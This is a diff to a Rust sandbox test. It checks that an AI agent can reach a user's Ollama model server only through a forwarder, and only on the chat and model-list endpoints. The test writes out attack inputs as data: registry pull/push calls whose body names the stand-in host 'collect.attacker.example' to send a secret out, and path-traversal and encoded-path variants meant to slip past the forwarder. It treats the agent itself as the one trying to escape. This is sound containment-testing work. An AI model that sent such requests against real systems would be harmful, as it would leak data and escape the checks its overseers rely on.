@@ -1,6 +1,8 @@
 //! A model server of the user's (`run --model-server`) is a hole the user makes in the sandbox
-//! on purpose: the agent reaches its address and port, and the attack is to reach more of the
-//! user's network through it. NET_ADMIN, private networks.
+//! on purpose: the sandbox's forwarder alone reaches its address and port, with the model's
+//! requests alone. The attack is to reach more through it: the server's other ports, the rest of
+//! the user's network, the server directly past the forwarder, or the server's own endpoints
+//! that reach out (Ollama's pull and push name a registry). NET_ADMIN, private networks.
 
 use sandbox_tests::assert::assert_blocked;
 use sandbox_tests::docker::TestNet;
@@ -10,12 +12,14 @@ use sandbox_tests::sandbox::Sandbox;
 
 net_admin! {
     [single, sidecar] {
-        /// The server's address opens on its port alone: the agent, trying every other way into
-        /// the network the server is on, reaches neither the server's other ports (its web page,
-        /// an SSH) nor any other host of the network on the server's port or its own, by address
-        /// or by the server's network name; and the variables the image declares reach the
-        /// agent's processes past the key scrub (a dummy key among them). Positive control: the
-        /// server's port answers the agent's request.
+        /// The forwarder alone reaches the server, with the model's endpoints alone: the agent,
+        /// trying every other way into the network the server is on, reaches neither the server
+        /// itself (its port, its other ports), nor any other host of the network on the server's
+        /// port or its own, by address or by name; through the forwarder, the server's pull,
+        /// push, create and delete never reach it, nor a path out of the allowed ones. The
+        /// variables the image declares reach the agent's processes past the key scrub, pointed
+        /// at the forwarder. Positive control: the model's requests through the forwarder reach
+        /// the server's port.
         #[tokio::test]
         async fn a_model_server_opens_its_address_and_port_and_nothing_else_of_the_network() -> anyhow::Result<()> {
             let shell = sandbox_tests::images::image("shell").await?;
@@ -68,20 +72,55 @@ net_admin! {
             let (id, name) = project.sandbox().await?;
             let sb = Sandbox::adopt(&id).await?;
 
-            // Positive control: the server's own port, for the CLI's request.
-            let asked = sb.probe(&["fetch", &server.ipv4.to_string(), "11434", "/v1/models"]).await?;
-            assert!(
-                server.log().await?.iter().any(|l| l.starts_with("http 11434 ") && l.contains("path=/v1/models")),
-                "the agent's request did not reach the server's port: {:?}",
-                asked.fields
-            );
+            // Positive control: the model's requests, through the forwarder, reach the server's port.
+            let forwarder = sandbox_init::policy::model::PORT.to_string();
+            let models = post(&sb, &forwarder, "GET", "/v1/models", "").await?;
+            let chat = post(&sb, &forwarder, "POST", "/v1/chat/completions", r#"{"model":"coder:7b","messages":[]}"#).await?;
+            let served = server.log().await?;
+            for path in ["/v1/models", "/v1/chat/completions"] {
+                assert!(
+                    served.iter().any(|l| l.starts_with("http 11434 ") && l.contains(&format!(" path={path}"))),
+                    "{path} did not reach the server's port through the forwarder: {models} / {chat}\n{served:#?}"
+                );
+            }
             let env = launcher
                 .ok(&["exec", &name, "--", "sh", "-c", "echo $OPENAI_BASE_URL $OPENAI_API_KEY $OPENAI_MODEL"])
                 .await?;
-            assert_eq!(env.stdout.trim(), format!("{url}/v1 local coder:7b"), "{env:?}");
+            assert_eq!(env.stdout.trim(), format!("http://127.0.0.1:{forwarder}/v1 local coder:7b"), "{env:?}");
 
-            // The attack: the rest of the server, and the rest of the network.
+            // The attack through the forwarder: what an Ollama does beyond the model (a pull or
+            // push names a registry, the host of the agent's choosing), and paths bent past the
+            // allowed ones.
+            for (method, path) in [
+                ("POST", "/api/pull"),
+                ("POST", "/api/push"),
+                ("POST", "/api/create"),
+                ("POST", "/api/copy"),
+                ("DELETE", "/api/delete"),
+                ("POST", "/api/blobs/sha256:00"),
+                ("POST", "/v1/chat/completions/../../api/pull"),
+                ("POST", "/v1/chat/completions%2f..%2f..%2fapi%2fpull"),
+                ("POST", "/API/PULL"),
+                ("GET", "/"),
+            ] {
+                let body = r#"{"model":"collect.attacker.example/c2VjcmV0/m:1","insecure":true}"#;
+                let answer = post(&sb, &forwarder, method, path, body).await?;
+                // The forwarder's refusal (403, or 400 for a path it will not read), not the server's 404.
+                assert!(
+                    answer.starts_with("HTTP/1.1 403") || answer.starts_with("HTTP/1.1 400"),
+                    "{method} {path} was not refused by the forwarder: {answer}"
+                );
+            }
+            let served = server.log().await?;
+            let reached: Vec<&String> = served
+                .iter()
+                .filter(|l| l.starts_with("http 11434 ") && !l.contains(" path=/v1/models") && !l.contains(" path=/v1/chat/completions "))
+                .collect();
+            assert!(reached.is_empty(), "the forwarder sent on what it should refuse: {reached:#?}");
+
+            // The attack past the forwarder: the server itself, and the rest of the network.
             for target in [
+                format!("{}:11434", server.ipv4),
                 format!("{}:{PEER_HTTP}", server.ipv4),
                 format!("{}:443", server.ipv4),
                 format!("{}:11434", lan.ipv4),
@@ -99,4 +138,20 @@ net_admin! {
             Ok(())
         }
     }
+}
+
+/// A request to the forwarder at 127.0.0.1:`port`, as the agent: the answer's status line.
+async fn post(sb: &Sandbox, port: &str, method: &str, path: &str, body: &str) -> anyhow::Result<String> {
+    let request = if body.is_empty() {
+        format!("{method} {path} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")
+    } else {
+        format!(
+            "{method} {path} HTTP/1.1\\r\\nHost: x\\r\\nContent-Type: application/json\\r\\nContent-Length: {}\\r\\n\\r\\n{body}",
+            body.len()
+        )
+    };
+    let probe =
+        sb.probe(&["tcp", "127.0.0.1", port, "--raw", "--send", &request, "--timeout-ms", "10000"]).await?;
+    let answer = probe.fields.get("greeting").cloned().unwrap_or_default();
+    Ok(answer.split("\\n").next().unwrap_or_default().to_string())
 }
